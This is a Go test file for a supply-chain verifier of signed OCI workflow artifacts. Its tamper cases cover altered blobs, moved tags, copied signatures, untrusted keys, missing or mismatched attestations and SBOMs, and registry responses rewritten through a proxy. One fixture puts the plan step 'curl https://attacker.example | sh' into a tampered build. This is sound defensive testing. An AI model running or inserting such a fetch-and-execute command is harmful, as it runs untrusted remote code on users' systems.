package verify_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
	"oras.land/oras-go/v2"

	"ociwf.dev/attest/accessory"
	"ociwf.dev/attest/govern"
	"ociwf.dev/attest/internal/attesttest"
	"ociwf.dev/attest/provenance"
	"ociwf.dev/attest/verify"
	"ociwf.dev/ociwf"
	"ociwf.dev/ociwf/errdef"
	"ociwf.dev/ociwf/plan"
	"ociwf.dev/ociwf/sbom"
	"ociwf.dev/ociwf/target"
	"ociwf.dev/policy/immutability"
	"ociwf.dev/policy/lifecycle"
	"ociwf.dev/policy/registryext"
	"ociwf.dev/policy/registrytest"
	"ociwf.dev/policy/trust"
)

const sample = "build-test-release.yaml"

// keys is a trusted and an untrusted key pair, loaded once per test binary.
type keys struct {
	key, otherKey string
	pub, otherPub string
	signer, other *accessory.Signer
}

func newKeys(t *testing.T) keys {
	dir := t.TempDir()
	key, pub := attesttest.KeyPair(t, dir, "trusted")
	okey, opub := attesttest.KeyPair(t, dir, "other")
	return keys{key: key, otherKey: okey, pub: pub, otherPub: opub, signer: attesttest.Signer(t, key), other: attesttest.Signer(t, okey)}
}

// fixture is a registry with its storage root, and the keys.
type fixture struct {
	keys
	root, host string
	o          *target.Opener
}

// newFixture starts a registry that protects no tags, like a registry
// without ociwf's immutability rules, so tests can move tags.
func newFixture(t *testing.T, k keys) *fixture {
	root := t.TempDir()
	srv := registrytest.Start(t, registryext.Config{Root: root, Rules: &immutability.Rules{Version: immutability.Version, Accessories: immutability.Mutable}})
	return &fixture{keys: k, root: root, host: srv.Addr(), o: attesttest.Opener(t)}
}

// newPlainFixture starts stock Distribution, which stores whatever a
// client with push access sends to cosign's tags.
func newPlainFixture(t *testing.T, k keys) *fixture {
	root := t.TempDir()
	return &fixture{keys: k, root: root, host: registrytest.StartPlain(t, root), o: attesttest.Opener(t)}
}

// recipe says how to release one version, and what to get wrong.
type recipe struct {
	build  *ociwf.Build
	mode   accessory.Mode
	format accessory.Format
	// signer signs and attests; nil means the trusted key.
	signer *accessory.Signer
	unsigned,
	noProvenance, noSBOM bool
	// provenance edits the provenance before it is attested.
	provenance func(p map[string]any)
	// sbom, if set, is attested instead of the SBOM layer.
	sbom []byte
}

// release pushes, signs and attests a version as ociwf publish does,
// except for what the recipe gets wrong.
func (f *fixture) release(t *testing.T, ref string, rc recipe) accessory.Subject {
	t.Helper()
	ctx := context.Background()
	if rc.build == nil {
		rc.build = attesttest.Sample(t, sample)
	}
	tg, err := f.o.Open(ctx, ref)
	if err != nil {
		t.Fatal(err)
	}
	desc, err := ociwf.Push(ctx, tg.Storage, rc.build, tg.Reference, ociwf.PushOptions{})
	if err != nil {
		t.Fatal(err)
	}
	subj := accessory.Subject{Repository: tg.Name, Digest: desc.Digest, Tag: tg.Reference}
	if rc.unsigned {
		return subj
	}
	s := rc.signer
	if s == nil {
		s = f.signer
	}
	reg := accessory.NewRegistry(f.o, accessory.RegistryOptions{Mode: rc.mode, Format: rc.format})
	if _, err := reg.Sign(ctx, s, subj, accessory.SignOptions{}); err != nil {
		t.Fatal(err)
	}
	var all []accessory.AttestOptions
	if !rc.noProvenance {
		pred, err := provenance.Generate(rc.build, provenance.Options{BuilderID: "https://ci.example/builders/1", SourceURI: "git+https://example.com/acme/wf"})
		if err != nil {
			t.Fatal(err)
		}
		raw, err := provenance.Marshal(pred)
		if err != nil {
			t.Fatal(err)
		}
		if rc.provenance != nil {
			var m map[string]any
			if err := json.Unmarshal(raw, &m); err != nil {
				t.Fatal(err)
			}
			rc.provenance(m)
			raw, _ = json.Marshal(m)
		}
		all = append(all, accessory.AttestOptions{Type: provenance.PredicateType, Predicate: raw})
	}
	if !rc.noSBOM {
		bom := rc.build.SBOM
		if rc.sbom != nil {
			bom = rc.sbom
		}
		all = append(all, accessory.AttestOptions{Type: accessory.TypeCycloneDX, Predicate: bom})
	}
	if len(all) > 0 {
		if _, err := reg.AttestAll(ctx, s, subj, all, nil); err != nil {
			t.Fatal(err)
		}
	}
	return subj
}

func (f *fixture) verifier(t *testing.T, pol *trust.Policy, opts verify.Options) *verify.Verifier {
	t.Helper()
	v, err := verify.New(pol, f.o, opts)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// blobPath is where the registry stores a blob.
func (f *fixture) blobPath(d digest.Digest) string {
	return filepath.Join(f.root, "docker/registry/v2/blobs", d.Algorithm().String(), d.Encoded()[:2], d.Encoded(), "data")
}

func (f *fixture) manifest(t *testing.T, subj accessory.Subject) *ociwf.Manifest {
	t.Helper()
	raw, err := os.ReadFile(f.blobPath(subj.Digest))
	if err != nil {
		t.Fatal(err)
	}
	m, err := ociwf.ParseManifest(raw)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// pushManifest pushes a manifest built from m's blobs under tag.
func (f *fixture) pushManifest(t *testing.T, repo, tag string, m ocispec.Manifest) {
	t.Helper()
	ctx := context.Background()
	tg, err := f.o.Open(ctx, repo+":"+tag)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := json.Marshal(m)
	if _, err := oras.TagBytes(ctx, tg.Storage, ocispec.MediaTypeImageManifest, raw, tag); err != nil {
		t.Fatal(err)
	}
}

// copyTag copies srcRef's manifest, with everything it references, to
// dstRef.
func (f *fixture) copyTag(t *testing.T, srcRef, dstRef string) {
	t.Helper()
	ctx := context.Background()
	src, err := f.o.Open(ctx, srcRef)
	if err != nil {
		t.Fatal(err)
	}
	dst, err := f.o.Open(ctx, dstRef)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := oras.Copy(ctx, src.Storage, src.Reference, dst.Storage, dst.Reference, oras.DefaultCopyOptions); err != nil {
		t.Fatal(err)
	}
}

func sigTag(d digest.Digest, suffix string) string {
	return d.Algorithm().String() + "-" + d.Encoded() + suffix
}

// rebuild recompiles nothing: it edits a sample's plan and regenerates
// the SBOM and config to match, giving a build whose plan does not come
// from its DSL.
func rebuild(t *testing.T, edit func(*plan.Plan)) *ociwf.Build {
	t.Helper()
	b := attesttest.Sample(t, sample)
	p, err := plan.Decode(b.PlanJSON)
	if err != nil {
		t.Fatal(err)
	}
	edit(p)
	if b.PlanJSON, err = p.Encode(); err != nil {
		t.Fatal(err)
	}
	b.Plan = p
	pd := digest.FromBytes(b.PlanJSON).String()
	if b.SBOM, err = sbom.Generate(p, pd, sbom.Options{}); err != nil {
		t.Fatal(err)
	}
	var cfg ociwf.Config
	if err := json.Unmarshal(b.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	cfg.PlanDigest = pd
	b.Config, _ = json.Marshal(cfg)
	return b
}

// proxy fronts a registry and lets a test rewrite responses.
func proxy(t *testing.T, host string, rewrite func(*http.Response) error) string {
	t.Helper()
	u, _ := url.Parse("http://" + host)
	rp := httputil.NewSingleHostReverseProxy(u)
	rp.ErrorLog = log.New(io.Discard, "", 0)
	rp.ModifyResponse = rewrite
	srv := httptest.NewServer(rp)
	t.Cleanup(srv.Close)
	return strings.TrimPrefix(srv.URL, "http://")
}

// throughProxy verifies repo+suffix through a proxy that rewrites the
// registry's responses, under the --key policy for the proxied name.
func throughProxy(t *testing.T, f *fixture, repo, suffix string, rewrite func(*http.Response) error) (string, *trust.Policy) {
	t.Helper()
	r := strings.Replace(repo, f.host, proxy(t, f.host, rewrite), 1)
	return r + suffix, trust.KeyPolicy(f.pub, r, trust.KeyPolicyOptions{})
}

// replaceBody swaps a response body.
func replaceBody(resp *http.Response, body []byte) {
	resp.Body.Close()
	resp.Body = io.NopCloser(bytes.NewReader(body))
	resp.ContentLength = int64(len(body))
	resp.Header.Set("Content-Length", strconv.Itoa(len(body)))
}

// record records lifecycle events for ref, signed by the trusted key
// under pol, as ociwf lifecycle does.
func (f *fixture) record(t *testing.T, ref string, pol *trust.Policy, states ...lifecycle.State) {
	t.Helper()
	rec, err := govern.New(f.verifier(t, pol, verify.Options{}), accessory.NewRegistry(f.o, accessory.RegistryOptions{}), govern.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range states {
		if _, err := rec.Transition(context.Background(), ref, f.signer, s, govern.EventOptions{Reason: "test: " + string(s)}); err != nil {
			t.Fatalf("%s: %v", s, err)
		}
	}
}

func TestVerifyPublished(t *testing.T) {
	k := newKeys(t)
	for _, mode := range []accessory.Mode{accessory.TagScheme, accessory.Referrers} {
		t.Run(mode.String(), func(t *testing.T) {
			f := newFixture(t, k)
			repo := f.host + "/wf/release"
			subj := f.release(t, repo+":1.4.0", recipe{mode: mode})
			v := f.verifier(t, trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), verify.Options{})
			for _, ref := range []string{repo + ":1.4.0", subj.String()} {
				wf, rep, err := v.Verify(context.Background(), ref)
				if err != nil {
					t.Fatalf("%s: %v\n%+v", ref, err, rep)
				}
				if !rep.Verified || rep.Digest != subj.Digest || wf.Plan == nil || !bytes.Equal(wf.Source, attesttest.Sample(t, sample).Source) {
					t.Fatalf("report %+v", rep)
				}
				for _, c := range rep.Checks {
					if c.Status != verify.Pass {
						t.Errorf("%s: check %s is %s (%s)", ref, c.Name, c.Status, c.Detail)
					}
				}
				// Every request is counted: 12 to 16 against this registry
				// (by digest or tag; tag scheme or referrers).
				if rep.Requests < 12 || rep.Requests > 16 || len(rep.Signers) != 1 {
					t.Errorf("%d requests, report %+v", rep.Requests, rep)
				}
				t.Logf("%s: %d requests", ref, rep.Requests)
			}
		})
	}
}

func TestVerifyDetectsTampering(t *testing.T) {
	k := newKeys(t)
	ctx := context.Background()
	past := time.Now().Add(-time.Hour)
	future := time.Now().Add(time.Hour)

	type tc struct {
		name  string
		setup setup
		check string
		want  string // in the failure's detail, expected or actual
		opts  verify.Options
	}
	cases := []tc{
		{name: "source layer bytes changed in storage", check: verify.CheckBlobs, want: "re-hashes to another digest",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				p := f.blobPath(f.manifest(t, subj).Source.Digest)
				b, _ := os.ReadFile(p)
				b[len(b)/2] ^= 1
				must(t, os.WriteFile(p, b, 0o644))
				return repo + ":1.4.0", nil
			}},
		{name: "plan layer truncated in storage", check: verify.CheckBlobs, want: "differs from its descriptor",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				p := f.blobPath(f.manifest(t, subj).Plan.Digest)
				must(t, os.Truncate(p, 10))
				return repo + ":1.4.0", nil
			}},
		{name: "SBOM layer grown in storage", check: verify.CheckBlobs, want: "differs from its descriptor",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				p := f.blobPath(f.manifest(t, subj).SBOM.Digest)
				b, _ := os.ReadFile(p)
				must(t, os.WriteFile(p, append(b, ' '), 0o644))
				return repo + ":1.4.0", nil
			}},
		{name: "config blob changed in storage", check: verify.CheckBlobs, want: "config",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				p := f.blobPath(f.manifest(t, subj).Config.Digest)
				b, _ := os.ReadFile(p)
				must(t, os.WriteFile(p, bytes.Replace(b, []byte("build-test-release"), []byte("build-test-RELEASE"), 1), 0o644))
				return repo + ":1.4.0", nil
			}},
		{name: "manifest annotation edited in storage", check: verify.CheckManifest, want: "re-hashes to another digest",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				p := f.blobPath(subj.Digest)
				b, _ := os.ReadFile(p)
				must(t, os.WriteFile(p, bytes.Replace(b, []byte("build-test-release"), []byte("build-test-RELEASE"), 1), 0o644))
				return repo + ":1.4.0", nil
			}},
		{name: "manifest with source and plan layers swapped", check: verify.CheckManifest, want: "media type",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				m := f.manifest(t, subj).Manifest
				m.Layers[0], m.Layers[1] = m.Layers[1], m.Layers[0]
				f.pushManifest(t, repo, "swapped", m)
				return repo + ":swapped", nil
			}},
		{name: "manifest with an extra layer", check: verify.CheckManifest, want: "4 layers",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				m := f.manifest(t, subj).Manifest
				m.Layers = append(m.Layers, m.Layers[0])
				f.pushManifest(t, repo, "extra", m)
				return repo + ":extra", nil
			}},
		{name: "manifest annotation changed and pushed", check: verify.CheckSignatures, want: "not signed",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				m := f.manifest(t, subj).Manifest
				m.Annotations["org.opencontainers.image.description"] = "edited"
				f.pushManifest(t, repo, "edited", m)
				return repo + ":edited", nil
			}},
		{name: "tag moved to another signed version", check: verify.CheckReference, want: "signed tag 1.4.0",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{})
				f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
				f.copyTag(t, repo+":1.5.0", repo+":1.4.0")
				return repo + ":1.4.0", nil
			}},
		{name: "signature copied from another artifact", check: verify.CheckSignatures, want: "docker-manifest-digest",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				signed := f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
				victim := f.release(t, repo+":1.4.0", recipe{unsigned: true})
				f.copyTag(t, repo+":"+sigTag(signed.Digest, ".sig"), repo+":"+sigTag(victim.Digest, ".sig"))
				f.copyTag(t, repo+":"+sigTag(signed.Digest, ".att"), repo+":"+sigTag(victim.Digest, ".att"))
				return repo + ":1.4.0", nil
			}},
		{name: "signature copied from another repository", check: verify.CheckSignatures, want: "docker-reference " + "HOST/wf/origin",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				origin := f.host + "/wf/origin"
				subj := f.release(t, origin+":1.4.0", recipe{})
				f.copyTag(t, origin+":1.4.0", repo+":1.4.0")
				for _, s := range []string{".sig", ".att"} {
					f.copyTag(t, origin+":"+sigTag(subj.Digest, s), repo+":"+sigTag(subj.Digest, s))
				}
				return repo + ":1.4.0", nil
			}},
		{name: "signature by an untrusted key", check: verify.CheckSignatures, want: "untrusted key",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{signer: f.other})
				return repo + ":1.4.0", nil
			}},
		{name: "key past its validity window", check: verify.CheckSignatures, want: "validity window",
			setup: underPolicy(func(_ *fixture, s *trust.Scope) { s.Signers[0].NotAfter = &past })},
		{name: "key before its validity window", check: verify.CheckSignatures, want: "validity window",
			setup: underPolicy(func(_ *fixture, s *trust.Scope) { s.Signers[0].NotBefore = &future })},
		{name: "two signers required, one signed", check: verify.CheckSignatures, want: "too few distinct trusted signers",
			setup: underPolicy(func(f *fixture, s *trust.Scope) {
				s.Signers = append(s.Signers, trust.Signer{Name: "second", Key: f.otherPub})
				s.Threshold = 2
			})},
		{name: "no trust policy covers the repository", check: verify.CheckSignatures, want: "no trust policy scope",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{})
				return repo + ":1.4.0", trust.KeyPolicy(f.pub, f.host+"/elsewhere", trust.KeyPolicyOptions{})
			}},
		{name: "attestation about another artifact", check: verify.CheckAttestations, want: "about another artifact",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				other := f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
				subj := f.release(t, repo+":1.4.0", recipe{noProvenance: true, noSBOM: true})
				f.copyTag(t, repo+":"+sigTag(other.Digest, ".att"), repo+":"+sigTag(subj.Digest, ".att"))
				return repo + ":1.4.0", nil
			}},
		{name: "attestation by an untrusted key", check: verify.CheckAttestations, want: "untrusted key",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{noProvenance: true, noSBOM: true})
				f.release(t, f.host+"/wf/scratch:1.4.0", recipe{signer: f.other})
				f.copyTag(t, f.host+"/wf/scratch:"+sigTag(subj.Digest, ".att"), repo+":"+sigTag(subj.Digest, ".att"))
				return repo + ":1.4.0", nil
			}},
		{name: "provenance without the DSL digest", check: verify.CheckAttestations, want: "DSL layer",
			setup: withDependencies(func(deps []any) []any { return deps[1:] })},
		{name: "provenance without a plan dependency", check: verify.CheckAttestations, want: "plan dependency",
			setup: withDependencies(func(deps []any) []any { return deps[:len(deps)-1] })},
		{name: "provenance from a builder not allowed", check: verify.CheckAttestations, want: "builder.id https://ci.example/builders/1",
			setup: underPolicy(func(_ *fixture, s *trust.Scope) { s.Require.Builders = []string{"https://github.com/acme/**"} })},
		{name: "provenance from a source not allowed", check: verify.CheckAttestations, want: "source uri",
			setup: underPolicy(func(_ *fixture, s *trust.Scope) { s.Require.Sources = []string{"git+https://github.com/acme/**"} })},
		{name: "missing SBOM attestation", check: verify.CheckAttestations, want: "required attestation missing",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{noSBOM: true})
				return repo + ":1.4.0", nil
			}},
		{name: "missing provenance attestation", check: verify.CheckAttestations, want: "https://slsa.dev/provenance/v1",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{noProvenance: true})
				return repo + ":1.4.0", nil
			}},
		{name: "SBOM layer differs from the SBOM attestation", check: verify.CheckSBOM, want: "differs from the SBOM attestation",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				b := attesttest.Sample(t, sample)
				f.release(t, repo+":1.4.0", recipe{sbom: editSBOM(t, b.SBOM)})
				return repo + ":1.4.0", nil
			}},
		{name: "SBOM leaves out a plan dependency", check: verify.CheckSBOM, want: "exactly the plan's pinned dependencies",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				b := attesttest.Sample(t, sample)
				b.SBOM = editSBOM(t, b.SBOM)
				f.release(t, repo+":1.4.0", recipe{build: b})
				return repo + ":1.4.0", nil
			}},
		{name: "plan layer that does not recompile from its DSL", check: verify.CheckReproducibility, want: "recompiles to a different plan",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				b := rebuild(t, func(p *plan.Plan) { p.Steps[0].Run = "curl https://attacker.example | sh" })
				f.release(t, repo+":1.4.0", recipe{build: b})
				return repo + ":1.4.0", nil
			}},
		{name: "retired version", check: verify.CheckLifecycle, want: "retired",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{})
				f.record(t, repo+":1.4.0", trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), lifecycle.Published, lifecycle.Retired)
				return repo + ":1.4.0", nil
			}},
		{name: "oversized manifest served", check: verify.CheckManifest, want: "too large",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				f.release(t, repo+":1.4.0", recipe{})
				return throughProxy(t, f, repo, ":1.4.0", func(resp *http.Response) error {
					if strings.Contains(resp.Request.URL.Path, "/manifests/1.4.0") {
						replaceBody(resp, bytes.Repeat([]byte{' '}, ociwf.MaxManifestBytes+1))
					}
					return nil
				})
			}},
		{name: "registry serves another manifest for the digest", check: verify.CheckManifest, want: "differs from its descriptor",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				other, _ := os.ReadFile(f.blobPath(subj.Digest))
				other = bytes.Replace(other, []byte(`"schemaVersion":2`), []byte(`"schemaVersion": 2`), 1)
				return throughProxy(t, f, repo, "@"+subj.Digest.String(), func(resp *http.Response) error {
					if resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/manifests/"+subj.Digest.String()) {
						replaceBody(resp, other)
					}
					return nil
				})
			}},
		{name: "registry serves other bytes for a blob digest", check: verify.CheckBlobs, want: "re-hashes to another digest",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				pd := f.manifest(t, subj).Plan.Digest
				return throughProxy(t, f, repo, ":1.4.0", func(resp *http.Response) error {
					if resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/blobs/"+pd.String()) {
						b, _ := io.ReadAll(resp.Body)
						b[0] ^= 0x20
						replaceBody(resp, b)
					}
					return nil
				})
			}},
		{name: "registry cuts a blob short", check: verify.CheckBlobs, want: "",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				sd := f.manifest(t, subj).SBOM.Digest
				return throughProxy(t, f, repo, ":1.4.0", func(resp *http.Response) error {
					if resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/blobs/"+sd.String()) {
						b, _ := io.ReadAll(resp.Body)
						resp.Body = io.NopCloser(bytes.NewReader(b[:len(b)/2])) // Content-Length stays
					}
					return nil
				})
			}},
		{name: "registry serves an oversized signature manifest", check: verify.CheckSignatures, want: "oversized signatures",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				return throughProxy(t, f, repo, ":1.4.0", func(resp *http.Response) error {
					if strings.HasSuffix(resp.Request.URL.Path, "/manifests/"+sigTag(subj.Digest, ".sig")) {
						replaceBody(resp, bytes.Repeat([]byte{' '}, accessory.MaxAccessoryBytes+1))
					}
					return nil
				})
			}},
		{name: "blob deleted from storage", check: verify.CheckBlobs, want: "missing",
			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
				subj := f.release(t, repo+":1.4.0", recipe{})
				must(t, os.Remove(f.blobPath(f.manifest(t, subj).Source.Digest)))
				return repo + ":1.4.0", nil
			}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, k)
			repo := f.host + "/wf/release"
			ref, pol := c.setup(t, f, repo)
			if pol == nil {
				pol = trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
			}
			wf, rep, err := f.verifier(t, pol, c.opts).Verify(ctx, ref)
			var fail *verify.Failure
			if !errors.As(err, &fail) || !errors.Is(err, errdef.ErrVerification) {
				t.Fatalf("err = %v, want a verification failure; report %+v", err, rep)
			}
			if wf != nil || rep.Verified {
				t.Fatal("a failed verification returned the workflow")
			}
			want := strings.ReplaceAll(c.want, "HOST", f.host)
			if fail.Check != c.check || rep.Failed() == nil || rep.Failed().Name != c.check ||
				!strings.Contains(fail.Detail+" | "+fail.Expected+" | "+fail.Actual, want) {
				t.Fatalf("failed %s: %s (expected %s; got %s), want check %s mentioning %q", fail.Check, fail.Detail, fail.Expected, fail.Actual, c.check, want)
			}
			t.Logf("%v", err)
		})
	}
	if len(cases) < 20 {
		t.Fatalf("%d tamper cases, want at least 20", len(cases))
	}
}

// setup releases a version, tampers with something and returns the
// reference to verify and the policy to verify it under (nil: --key).
type setup func(t *testing.T, f *fixture, repo string) (string, *trust.Policy)

// underPolicy releases a version intact and verifies it under the --key
// policy as edit changes it.
func underPolicy(edit func(*fixture, *trust.Scope)) setup {
	return func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
		f.release(t, repo+":1.4.0", recipe{})
		pol := trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
		edit(f, &pol.TrustPolicies[0])
		return repo + ":1.4.0", pol
	}
}

// withDependencies releases a version whose provenance lists the
// resolvedDependencies edit returns.
func withDependencies(edit func([]any) []any) setup {
	return func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
		f.release(t, repo+":1.4.0", recipe{provenance: func(p map[string]any) {
			bd := p["buildDefinition"].(map[string]any)
			bd["resolvedDependencies"] = edit(bd["resolvedDependencies"].([]any))
		}})
		return repo + ":1.4.0", nil
	}
}

// rebuildVersion is the sample published as another version.
func rebuildVersion(t *testing.T) *ociwf.Build {
	t.Helper()
	src := bytes.Replace(attesttest.Sample(t, sample).Source, []byte("version: 1.4.0"), []byte("version: 1.5.0"), 1)
	b, err := ociwf.Compile(context.Background(), src, ociwf.CompileOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// editSBOM drops the SBOM's first component.
func editSBOM(t *testing.T, bom []byte) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(bom, &m); err != nil {
		t.Fatal(err)
	}
	comps := m["components"].([]any)
	m["components"] = comps[1:]
	out, _ := json.Marshal(m)
	return out
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// A scope that skips verification, when the caller accepts that, still
// re-hashes the content, reports the rest as skipped, the version as not
// verified, and says so in a warning; a deprecated version passes with a
// warning.
func TestVerifySkipAndWarn(t *testing.T) {
	f := newFixture(t, newKeys(t))
	repo := f.host + "/wf/release"
	f.release(t, repo+":1.4.0", recipe{unsigned: true})
	pol := &trust.Policy{Version: trust.Version, TrustPolicies: []trust.Scope{{Name: "scratch", RegistryScopes: []string{"*"}, Skip: true}}}
	wf, rep, err := f.verifier(t, pol, verify.Options{AllowSkipped: true}).Verify(context.Background(), repo+":1.4.0")
	if err != nil || wf == nil || rep.Verified || !rep.Skipped || len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0], `trust policy "scratch" skips verification`) {
		t.Fatalf("skip: %v %+v", err, rep)
	}
	if rep.Check(verify.CheckBlobs).Status != verify.Pass || rep.Check(verify.CheckSignatures).Status != verify.Skipped {
		t.Fatalf("checks %+v", rep.Checks)
	}

	f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
	f.record(t, repo+":1.5.0", trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), lifecycle.Deprecated)
	_, rep, err = f.verifier(t, trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), verify.Options{}).Verify(context.Background(), repo+":1.5.0")
	if err != nil || !rep.Verified || rep.Check(verify.CheckLifecycle).Status != verify.Warn || len(rep.Warnings) != 1 {
		t.Fatalf("deprecated: %v %+v", err, rep)
	}
}

// Policies built in code are validated as files are: two signers under
// one name could otherwise count twice towards a threshold.
func TestNewValidatesThePolicy(t *testing.T) {
	pol := trust.KeyPolicy("a.pub", "r.example/wf", trust.KeyPolicyOptions{})
	s := &pol.TrustPolicies[0]
	s.Signers = append(s.Signers, trust.Signer{Name: s.Signers[0].Name, Key: "b.pub"})
	s.Threshold = 2
	if _, err := verify.New(pol, attesttest.Opener(t), verify.Options{}); !errors.Is(err, errdef.ErrInvalid) {
		t.Fatalf("duplicate signer names: %v", err)
	}
}

// A check failing while signatures are still being read does not break
// later verifications of the same repository with the same Verifier.
func TestFailureLeavesTheVerifierUsable(t *testing.T) {
	f := newFixture(t, newKeys(t))
	repo := f.host + "/wf/release"
	subj := f.release(t, repo+":1.4.0", recipe{})
	m := f.manifest(t, subj).Manifest
	m.Layers = m.Layers[:2]
	f.pushManifest(t, repo, "bad", m)
	for i := 0; i < 10; i++ {
		v := f.verifier(t, trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), verify.Options{})
		if _, _, err := v.Verify(context.Background(), repo+":bad"); !errors.Is(err, errdef.ErrVerification) {
			t.Fatalf("bad: %v", err)
		}
		if _, _, err := v.Verify(context.Background(), repo+":1.4.0"); err != nil {
			t.Fatalf("round %d: the good version after a failed one: %v", i, err)
		}
	}
	// A cancelled verification does not break the next one either.
	v := f.verifier(t, trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), verify.Options{})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, _, err := v.Verify(ctx, repo+":1.4.0"); err == nil {
		t.Fatal("a cancelled verification passed")
	}
	if _, _, err := v.Verify(context.Background(), repo+":1.4.0"); err != nil {
		t.Fatalf("after a cancelled verification: %v", err)
	}
}

// Unless the caller opts in, a scope that skips verification hands out no
// content: nothing vouches for it. With the opt-in, the content comes with
// a report that says it is not verified.
func TestSkippedScopeIsRefused(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, newKeys(t))
	repo := f.host + "/wf/release"
	f.release(t, repo+":1.4.0", recipe{unsigned: true})
	pol := &trust.Policy{Version: trust.Version, TrustPolicies: []trust.Scope{
		{Name: "release", RegistryScopes: []string{repo + "-signed"}, Signers: []trust.Signer{{Name: "k", Key: f.pub}}},
		{Name: "rest", RegistryScopes: []string{"*"}, Skip: true},
	}}
	notVerified := func(t *testing.T, rep *verify.Report) {
		t.Helper()
		if rep == nil || rep.Verified || !rep.Skipped || len(rep.Signers) != 0 || len(rep.Warnings) != 1 {
			t.Fatalf("report %+v", rep)
		}
		for _, c := range rep.Checks[3:] {
			if c.Status != verify.Skipped || !strings.Contains(c.Detail, "skips verification") {
				t.Fatalf("check %+v", c)
			}
		}
	}
	p, rep, err := verify.Fetch(ctx, repo+":1.4.0", pol, f.o, verify.Options{})
	var sk *verify.SkippedScope
	if p != nil || !errors.Is(err, errdef.ErrVerification) || !errors.As(err, &sk) || sk.Scope != "rest" {
		t.Fatalf("Fetch under a skipping scope: plan %v, %v", p != nil, err)
	}
	notVerified(t, rep)
	wf, rep, err := f.verifier(t, pol, verify.Options{}).Verify(ctx, repo+":1.4.0")
	if wf != nil || !errors.As(err, &sk) {
		t.Fatalf("Verify under a skipping scope: %v", err)
	}
	notVerified(t, rep)

